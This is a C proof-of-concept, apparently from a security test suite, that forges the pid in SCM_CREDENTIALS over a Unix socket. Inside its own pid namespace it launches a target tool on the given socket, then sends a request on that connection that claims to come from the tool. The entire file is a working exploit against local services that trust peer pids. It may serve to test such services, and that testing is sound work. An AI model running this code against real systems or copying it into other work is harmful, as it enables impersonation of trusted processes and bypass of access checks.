/* Forged writer: whoever owns a user and a pid namespace may write any pid of it into SCM_CREDENTIALS. The tool
 * runs inside and never asks; its first process asks in its name on the tool's connection.
 *
 * forged_pid SOCKET REQUEST TOOL
 */
#include "attack.h"

static void tell_as(int fd, const char *request, pid_t pid)
{
	union {
		char bytes[CMSG_SPACE(sizeof(struct ucred))];
		struct cmsghdr align;
	} control = {0};
	struct ucred forged = {.pid = pid, .uid = getuid(), .gid = getgid()};
	struct iovec parts[2] = {{(char *)request, strlen(request)}, {"\n", 1}};
	struct msghdr m = {.msg_iov = parts, .msg_iovlen = 2, .msg_control = &control, .msg_controllen = sizeof control};
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);

	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_CREDENTIALS;
	c->cmsg_len = CMSG_LEN(sizeof forged);
	memcpy(CMSG_DATA(c), &forged, sizeof forged);
	if (sendmsg(fd, &m, MSG_NOSIGNAL) < 0)
		die("sendmsg");
}

int main(int argc, char **argv)
{
	int hold[2], started[2];
	char x;

	if (argc != 4)
		return 2;
	own_namespace(CLONE_NEWPID);
	pid_t first = fork();
	if (first != 0) {
		waitpid(first, NULL, 0);
		return 0;
	}
	int sock = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (pipe2(hold, O_CLOEXEC) != 0 || pipe2(started, O_CLOEXEC) != 0)
		die("pipe");
	pid_t tool = fork();
	if (tool == 0) {
		char *args[] = {argv[3], NULL};
		dial_on(sock, argv[1]);
		fcntl(sock, F_SETFD, FD_CLOEXEC);
		dup2(hold[0], 0);
		execv(argv[3], args);
		die("exec");
	}
	close(started[1]);
	/* ends when the exec has closed the other end */
	(void)!read(started[0], &x, 1);
	tell_as(sock, argv[2], tool);
	hear(sock, 1);
	return 0;
}
